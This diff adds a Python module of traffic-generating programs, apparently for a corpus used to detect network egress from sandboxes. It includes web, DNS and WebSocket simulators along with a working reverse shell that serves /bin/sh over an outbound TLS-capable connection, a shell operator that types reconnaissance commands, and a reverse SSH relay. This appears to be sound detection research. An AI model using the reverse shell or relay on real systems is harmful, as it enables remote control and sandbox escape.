@@ -1,0 +1,524 @@
+"""Small real programs the corpus scenarios run inside network namespaces.
+
+`python -m egress.corpus.programs ROLE [options]`; every role is bounded by
+`--duration` (seconds) and stops by itself. Roles:
+
+- web-server     HTTP/1.1 (optionally TLS) server: /blob/N (N bytes), /api/N (JSON of about
+                 N bytes, also POST), /static/... (files under --root, e.g. a bare git repo for
+                 git's dumb HTTP protocol), /ws (WebSocket: pushes a message every
+                 --push-interval seconds and answers every client message).
+- web-client     HTTP client patterns over TLS or not: bulk, api, pip, npm, ws.
+- dns-server     UDP DNS answering A queries; dns-client sends queries with pauses.
+- typist         writes shell commands to stdout one keystroke at a time with human timing
+                 (pipe it into `ssh -tt` or into a reverse shell).
+- reverse-shell  the sandbox side: connects out and serves /bin/sh over the connection.
+- shell-operator the outside side: accepts the reverse shell and types commands into it.
+- relay          connects out to HOST:PORT and splices it to a local TCP service
+                 (role-reversed SSH: the outside runs the SSH client over it).
+- accept-pipe    accepts one connection on HOST:PORT and splices it to stdin/stdout
+                 (used as the outside SSH client's ProxyCommand).
+- fetch-loop     connects to a local port repeatedly and reads/writes (traffic through a tunnel).
+
+Only the addresses given on the command line are used (namespace-private addresses).
+"""
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import random
+import select
+import socket
+import ssl
+import struct
+import subprocess
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+BLOB = os.urandom(1 << 20)
+
+
+def _hostport(text: str) -> tuple[str, int]:
+    host, _, port = text.rpartition(":")
+    return host, int(port)
+
+
+def _server_tls(cert_dir: str) -> ssl.SSLContext:
+    from egress.sim.tlscert import self_signed
+    cert, key = self_signed("svc.test", cert_dir)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(str(cert), str(key))
+    return ctx
+
+
+def _client_tls() -> ssl.SSLContext:
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+
+
+def _stop_after(seconds: float) -> None:
+    def bye():
+        time.sleep(seconds)
+        os._exit(0)
+    threading.Thread(target=bye, daemon=True).start()
+
+
+# --- web server ----------------------------------------------------------------------------
+
+def _ws_frame(payload: bytes, mask: bool, opcode: int = 1) -> bytes:
+    head = bytes([0x80 | opcode])
+    n = len(payload)
+    bit = 0x80 if mask else 0
+    if n < 126:
+        head += bytes([bit | n])
+    elif n < 65536:
+        head += bytes([bit | 126]) + n.to_bytes(2, "big")
+    else:
+        head += bytes([bit | 127]) + n.to_bytes(8, "big")
+    if not mask:
+        return head + payload
+    key = os.urandom(4)
+    return head + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))
+
+
+def _ws_read(f) -> bytes | None:
+    head = f.read(2)
+    if len(head) < 2:
+        return None
+    n = head[1] & 0x7F
+    if n == 126:
+        n = struct.unpack("!H", f.read(2))[0]
+    elif n == 127:
+        n = struct.unpack("!Q", f.read(8))[0]
+    key = f.read(4) if head[1] & 0x80 else b""
+    data = f.read(n)
+    if key:
+        data = bytes(b ^ key[i % 4] for i, b in enumerate(data))
+    if head[0] & 0x0F == 8:
+        return None
+    return data
+
+
+class _Handler(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    server_version = "nginx/1.24.0"
+    sys_version = ""
+
+    def log_message(self, *args):
+        pass
+
+    def _send(self, body: bytes, ctype: str = "application/octet-stream") -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", ctype)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_POST(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        if n:
+            self.rfile.read(n)
+        self.do_GET()
+
+    def do_GET(self):
+        path = self.path.split("?", 1)[0]
+        if path.startswith("/blob/"):
+            n = int(path[6:] or 0)
+            self.send_response(200)
+            self.send_header("Content-Length", str(n))
+            self.end_headers()
+            while n > 0:
+                chunk = BLOB[: min(n, len(BLOB))]
+                self.wfile.write(chunk)
+                n -= len(chunk)
+        elif path.startswith("/api/"):
+            n = int(path[5:] or 0)
+            body = json.dumps({"ok": True, "data": "x" * max(0, n - 24)}).encode()
+            self._send(body, "application/json")
+        elif path.startswith("/static/"):
+            f = Path(self.server.root) / path[len("/static/"):]
+            if f.is_file():
+                self._send(f.read_bytes())
+            else:
+                self.send_error(404)
+        elif path == "/ws":
+            self._websocket()
+        else:
+            self.send_error(404)
+
+    def _websocket(self):
+        import base64
+        import hashlib
+        key = self.headers.get("Sec-WebSocket-Key", "")
+        accept = base64.b64encode(hashlib.sha1(key.encode() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
+        self.send_response(101)
+        self.send_header("Upgrade", "websocket")
+        self.send_header("Connection", "Upgrade")
+        self.send_header("Sec-WebSocket-Accept", accept.decode())
+        self.end_headers()
+        self.wfile.flush()
+        rng = random.Random()
+        interval = self.server.push_interval
+        sock = self.connection
+        lock = threading.Lock()
+        alive = [True]
+
+        def pusher():
+            while alive[0]:
+                time.sleep(rng.uniform(0.5, 1.5) * interval)
+                msg = json.dumps({"type": "update", "seq": rng.randrange(1 << 30),
+                                  "payload": "p" * rng.randrange(20, 600)}).encode()
+                try:
+                    with lock:
+                        sock.sendall(_ws_frame(msg, mask=False))
+                except OSError:
+                    return
+        threading.Thread(target=pusher, daemon=True).start()
+        while True:
+            data = _ws_read(self.rfile)
+            if data is None:
+                break
+            with lock:
+                try:
+                    sock.sendall(_ws_frame(json.dumps({"type": "ack", "n": len(data)}).encode(), mask=False))
+                except OSError:
+                    break
+        alive[0] = False
+        self.close_connection = True
+
+
+def web_server(a) -> None:
+    _stop_after(a.duration)
+    host, port = _hostport(a.listen)
+    srv = ThreadingHTTPServer((host, port), _Handler)
+    srv.daemon_threads = True
+    srv.root = a.root or "."
+    srv.push_interval = a.push_interval
+    if a.tls:
+        ctx = _server_tls(a.cert_dir)
+        srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
+    print("listening", flush=True)
+    srv.serve_forever()
+
+
+# --- web client ------------------------------------------------------------------------------
+
+def _conn(a):
+    import http.client
+    host, port = _hostport(a.connect)
+    if a.tls:
+        return http.client.HTTPSConnection(host, port, context=_client_tls(), timeout=30)
+    return http.client.HTTPConnection(host, port, timeout=30)
+
+
+def _get(c, path: str, body: bytes | None = None) -> int:
+    c.request("POST" if body else "GET", path, body=body,
+              headers={"User-Agent": "pip/24.0", "Accept": "*/*", "Content-Type": "application/json"})
+    r = c.getresponse()
+    return len(r.read())
+
+
+def web_client(a) -> None:
+    rng = random.Random(a.seed)
+    end = time.time() + a.duration
+    if a.pattern == "bulk":
+        c = _conn(a)
+        for _ in range(rng.randint(1, 3)):
+            _get(c, "/blob/%d" % rng.randint(200_000, 3_000_000))
+            time.sleep(rng.uniform(0, 0.5))
+        c.close()
+    elif a.pattern == "api":
+        c = _conn(a)
+        mean = rng.choice([0.2, 0.5, 1.0, 2.0])
+        while time.time() < end:
+            body = json.dumps({"q": "x" * rng.randint(50, 2000)}).encode() if rng.random() < 0.6 else None
+            _get(c, "/api/%d" % rng.choice([rng.randint(100, 600), rng.randint(600, 8000)]), body)
+            time.sleep(min(rng.expovariate(1.0 / mean), 5.0))
+        c.close()
+    elif a.pattern == "pip":
+        for _ in range(rng.randint(1, 2)):
+            c = _conn(a)
+            for _ in range(rng.randint(2, 6)):
+                _get(c, "/api/%d" % rng.randint(5_000, 30_000))
+                _get(c, "/blob/%d" % rng.randint(30_000, 900_000))
+                time.sleep(rng.uniform(0, 0.2))
+                if time.time() > end:
+                    break
+            c.close()
+    elif a.pattern == "npm":
+        def worker(seed):
+            r = random.Random(seed)
+            c = _conn(a)
+            for _ in range(r.randint(3, 15)):
+                _get(c, "/blob/%d" % r.randint(1_000, 60_000))
+                if time.time() > end:
+                    break
+            c.close()
+        threads = [threading.Thread(target=worker, args=(rng.random(),)) for _ in range(rng.randint(3, 8))]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+    elif a.pattern == "ws":
+        _ws_client(a, rng, end)
+
+
+def _ws_client(a, rng, end) -> None:
+    import base64
+    host, port = _hostport(a.connect)
+    s = socket.create_connection((host, port), timeout=30)
+    if a.tls:
+        s = _client_tls().wrap_socket(s, server_hostname="svc.test")
+    key = base64.b64encode(os.urandom(16)).decode()
+    s.sendall(("GET /ws HTTP/1.1\r\nHost: svc.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % key).encode())
+    f = s.makefile("rb")
+    while f.readline() not in (b"\r\n", b""):
+        pass
+    stop = [False]
+
+    def reader():
+        while not stop[0]:
+            if _ws_read(f) is None:
+                return
+    threading.Thread(target=reader, daemon=True).start()
+    mean = rng.choice([1.0, 3.0, 8.0])
+    while time.time() < end:
+        time.sleep(min(rng.expovariate(1.0 / mean), max(0.0, end - time.time())))
+        try:
+            s.sendall(_ws_frame(json.dumps({"type": "msg", "text": "t" * rng.randint(5, 300)}).encode(), mask=True))
+        except OSError:
+            break
+    stop[0] = True
+    s.close()
+
+
+# --- DNS -------------------------------------------------------------------------------------
+
+def dns_server(a) -> None:
+    _stop_after(a.duration)
+    host, port = _hostport(a.listen)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((host, port))
+    print("listening", flush=True)
+    while True:
+        data, peer = s.recvfrom(2048)
+        if len(data) < 12:
+            continue
+        qid = data[:2]
+        q = data[12:]
+        end = q.find(b"\0") + 5
+        question = q[:end]
+        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton("10.206.255.%d" % (qid[1] % 250))
+        s.sendto(qid + b"\x81\x80" + struct.pack("!HHHH", 1, 1, 0, 0) + question + answer, peer)
+
+
+def dns_client(a) -> None:
+    rng = random.Random(a.seed)
+    host, port = _hostport(a.connect)
+    end = time.time() + a.duration
+    names = ["pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "github.com", "api.example.com"]
+    while time.time() < end:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)    # a new source port per lookup, like a resolver
+        s.settimeout(2)
+        name = rng.choice(names) if rng.random() < 0.7 else "h%d.example.net" % rng.randrange(1000)
+        q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+        s.sendto(struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1),
+                 (host, port))
+        try:
+            s.recvfrom(2048)
+        except OSError:
+            pass
+        s.close()
+        time.sleep(rng.uniform(0.05, 1.5))
+
+
+# --- keystrokes, shells, relays ------------------------------------------------------------------
+
+COMMANDS = ["ls -la", "pwd", "id", "uname -a", "cat /etc/hostname", "echo hello", "ls /usr/bin | head -40",
+            "ps aux | head -20", "df -h", "cat /etc/os-release", "env | sort | head", "whoami",
+            "ls -la /tmp", "date", "free -m", "ip addr", "head -c 3000 /etc/services", "find /etc -maxdepth 1 | head -50"]
+
+
+def typist(a) -> None:
+    rng = random.Random(a.seed)
+    out = sys.stdout.buffer
+    time.sleep(a.initial_wait)
+    end = time.time() + a.duration
+    while time.time() < end:
+        cmd = rng.choice(COMMANDS) + "\n"
+        for ch in cmd:
+            out.write(ch.encode())
+            out.flush()
+            time.sleep(rng.uniform(0.04, 0.25) if a.by_key else 0.0)
+        time.sleep(rng.uniform(0.5, 3.0))
+    out.write(b"exit\n")
+    out.flush()
+    time.sleep(1.0)
+
+
+def reverse_shell(a) -> None:
+    host, port = _hostport(a.connect)
+    s = socket.create_connection((host, port), timeout=10)
+    s.settimeout(None)
+    if a.tls:
+        s = _client_tls().wrap_socket(s, server_hostname="svc.test")
+    p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                         stderr=subprocess.STDOUT, start_new_session=True)
+    _splice_sock_proc(s, p, a.duration)
+
+
+def _splice_sock_proc(s, p, duration: float) -> None:
+    def up():
+        while True:
+            data = os.read(p.stdout.fileno(), 4096)
+            if not data:
+                break
+            try:
+                s.sendall(data)
+            except OSError:
+                break
+    threading.Thread(target=up, daemon=True).start()
+    end = time.time() + duration
+    try:
+        while time.time() < end:
+            data = s.recv(4096)
+            if not data:
+                break
+            p.stdin.write(data)
+            p.stdin.flush()
+    except (OSError, BrokenPipeError):
+        pass
+    p.kill()
+    s.close()
+
+
+def shell_operator(a) -> None:
+    _stop_after(a.duration + 5)
+    rng = random.Random(a.seed)
+    host, port = _hostport(a.listen)
+    ls = socket.socket()
+    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    ls.bind((host, port))
+    ls.listen(1)
+    print("listening", flush=True)
+    s, _ = ls.accept()
+    if a.tls:
+        s = _server_tls(a.cert_dir).wrap_socket(s, server_side=True)
+    threading.Thread(target=lambda: [None for _ in iter(lambda: s.recv(4096), b"")], daemon=True).start()
+    end = time.time() + a.duration
+    time.sleep(rng.uniform(0.2, 1.5))
+    while time.time() < end:
+        cmd = rng.choice(COMMANDS) + "\n"
+        if a.by_key:
+            for ch in cmd:
+                s.sendall(ch.encode())
+                time.sleep(rng.uniform(0.03, 0.2))
+        else:
+            s.sendall(cmd.encode())
+        time.sleep(rng.uniform(0.3, 4.0))
+    s.sendall(b"exit\n")
+    time.sleep(0.5)
+    s.close()
+
+
+def _splice(a_sock, b_sock, end: float) -> None:
+    socks = [a_sock, b_sock]
+    while time.time() < end:
+        r, _, _ = select.select(socks, [], [], 0.5)
+        for s in r:
+            data = s.recv(65536)
+            if not data:
+                return
+            (b_sock if s is a_sock else a_sock).sendall(data)
+
+
+def relay(a) -> None:
+    host, port = _hostport(a.connect)
+    out = socket.create_connection((host, port), timeout=10)
+    lh, lp = _hostport(a.to)
+    local = socket.create_connection((lh, lp), timeout=10)
+    out.settimeout(None)
+    local.settimeout(None)
+    _splice(out, local, time.time() + a.duration)
+
+
+def accept_pipe(a) -> None:
+    host, port = _hostport(a.listen)
+    ls = socket.socket()
+    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    ls.bind((host, port))
+    ls.listen(1)
+    ls.settimeout(a.duration)
+    s, _ = ls.accept()
+    end = time.time() + a.duration
+    while time.time() < end:
+        r, _, _ = select.select([s, 0], [], [], 0.5)
+        if s in r:
+            data = s.recv(65536)
+            if not data:
+                return
+            view = memoryview(data)
+            while view:
+                view = view[os.write(1, view):]
+        if 0 in r:
+            data = os.read(0, 65536)
+            if not data:
+                return
+            s.sendall(data)
+
+
+def fetch_loop(a) -> None:
+    """Through a tunnel's local end: HTTP GETs of assorted sizes with pauses."""
+    import http.client
+    rng = random.Random(a.seed)
+    host, port = _hostport(a.connect)
+    end = time.time() + a.duration
+    while time.time() < end:
+        try:
+            c = http.client.HTTPConnection(host, port, timeout=10)
+            for _ in range(rng.randint(1, 4)):
+                _get(c, rng.choice(["/api/%d" % rng.randint(100, 5000), "/blob/%d" % rng.randint(1000, 400_000)]))
+            c.close()
+        except OSError:
+            time.sleep(0.3)
+        time.sleep(rng.uniform(0.1, 2.5))
+
+
+def main(argv=None) -> int:
+    ap = argparse.ArgumentParser(prog="egress.corpus.programs")
+    ap.add_argument("role")
+    ap.add_argument("--listen")
+    ap.add_argument("--connect")
+    ap.add_argument("--to")
+    ap.add_argument("--tls", action="store_true")
+    ap.add_argument("--cert-dir")
+    ap.add_argument("--root")
+    ap.add_argument("--pattern", default="bulk")
+    ap.add_argument("--push-interval", type=float, default=2.0)
+    ap.add_argument("--seed", type=int, default=0)
+    ap.add_argument("--duration", type=float, default=10.0)
+    ap.add_argument("--initial-wait", type=float, default=1.0)
+    ap.add_argument("--by-key", action="store_true")
+    a = ap.parse_args(argv)
+    roles = {"web-server": web_server, "web-client": web_client, "dns-server": dns_server,
+             "dns-client": dns_client, "typist": typist, "reverse-shell": reverse_shell,
+             "shell-operator": shell_operator, "relay": relay, "accept-pipe": accept_pipe,
+             "fetch-loop": fetch_loop}
+    if a.role not in roles:
+        ap.error("unknown role %s" % a.role)
+    try:
+        roles[a.role](a)
+    except (OSError, ValueError) as exc:
+        print("%s: %s" % (a.role, exc), file=sys.stderr)
+        return 1
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
